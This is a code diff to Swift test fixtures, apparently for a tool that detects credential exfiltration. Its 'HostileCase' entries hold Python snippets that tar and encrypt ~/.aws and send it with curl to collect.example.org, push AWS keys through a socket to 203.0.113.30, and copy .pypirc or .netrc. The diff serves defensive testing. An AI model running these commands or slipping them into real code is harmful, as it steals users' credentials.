@@ -25,7 +25,8 @@ extension HostileCase {
       loot.post(open('h', 'rb').read())
       """, honest: tarball),
     HostileCase(
-      "stream_cipher", [.touched, .taintedEgress], decoys: ["aws-shared-credentials"], words: ["memory held", "it had opened"],
+      "stream_cipher", [.touched, .taintedEgress], decoys: ["aws-shared-credentials"],
+      words: ["memory held", "it had opened"],
       """
       import loot, random
       key = random.Random(7)
@@ -38,7 +39,8 @@ extension HostileCase {
       import loot, subprocess
       subprocess.run('tar cz -C ~ .aws | openssl enc -aes-256-cbc -pbkdf2 -k x | curl -s --data-binary @- http://collect.example.org/', shell=True)
       """,
-      honest: "import subprocess\nsubprocess.run('tar cz -C /usr/share doc/tar | openssl enc -aes-256-cbc -pbkdf2 -k x | curl -s --data-binary @- http://collect.example.org/', shell=True)"
+      honest:
+        "import subprocess\nsubprocess.run('tar cz -C /usr/share doc/tar | openssl enc -aes-256-cbc -pbkdf2 -k x | curl -s --data-binary @- http://collect.example.org/', shell=True)"
     ),
     HostileCase(
       "connected_before", [.touched, .taintedEgress], decoys: ["netrc"], words: ["203.0.113.7"],
@@ -50,15 +52,15 @@ extension HostileCase {
       s.close()
       """),
     HostileCase(
-      "double_fork", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["collect.example.org"],
+      "double_fork", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
+      words: ["203.0.113.30"],
       """
-      import loot, os
+      import loot, os, socket, time
       if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
-          import time
           while os.getppid() != 1: time.sleep(0.01)
-          loot.post(loot.aws())
+          with socket.create_connection(('203.0.113.30', 80)) as s: s.sendall(loot.aws())
         os._exit(0)
       os.wait()
       """, honest: "import os\nif os.fork() == 0:\n  os.setsid()\n  os._exit(0)\nos.wait()"),
@@ -67,13 +69,15 @@ extension HostileCase {
       "import loot, subprocess, time; time.sleep(3600); subprocess.run(['sleep', '3600']); loot.post(loot.raw('.netrc'))",
       honest: "import time; time.sleep(3600)"),
     HostileCase(
-      "left_in_a_file", [.touched, .staged], decoys: ["aws-shared-credentials"], words: ["site-packages/harbour_cache.txt"],
+      "left_in_a_file", [.touched, .staged], decoys: ["aws-shared-credentials"],
+      words: ["site-packages/harbour_cache.txt"],
       """
       import loot, os
       with open(os.path.join(os.path.dirname(loot.__file__), 'harbour_cache.txt'), 'wb') as file: file.write(loot.aws())
       """),
     HostileCase(
-      "wheel_with_loot", [.touched, .staged], decoys: ["netrc"], words: ["dist/x-1.0-py3-none-any.whl", "zip(x/data.txt)"],
+      "wheel_with_loot", [.touched, .staged], decoys: ["netrc"],
+      words: ["dist/x-1.0-py3-none-any.whl", "zip(x/data.txt)"],
       """
       import loot, os, zipfile
       os.makedirs(loot.home + '/dist', exist_ok=True)
@@ -121,7 +125,10 @@ extension HostileCase {
       open(loot.home + '/n').read()
       subprocess.run(['cp', loot.home + '/.pypirc', '/tmp/copy'], check=True)
       open('/tmp/copy').read()
-      """, honest: "import os\nos.symlink('/etc/hostname', '/tmp/link')\nopen('/tmp/link').read()\nopen('/proc/self/root/etc/hostname').read()"),
+      """,
+      honest:
+        "import os\nos.symlink('/etc/hostname', '/tmp/link')\nopen('/tmp/link').read()\nopen('/proc/self/root/etc/hostname').read()"
+    ),
     HostileCase(
       "program_in_memory", [.evasive], words: ["memory"],
       """
@@ -191,7 +198,8 @@ extension HostileCase {
       try: urllib.request.urlopen('https://pinned.example.org/', data=data, context=context)
       except OSError as error: print(error)
       """,
-      honest: "import ssl, urllib.request\ntry: urllib.request.urlopen('https://pinned.example.org/', context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT))\nexcept OSError: pass"
+      honest:
+        "import ssl, urllib.request\ntry: urllib.request.urlopen('https://pinned.example.org/', context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT))\nexcept OSError: pass"
     ),
   ]
 
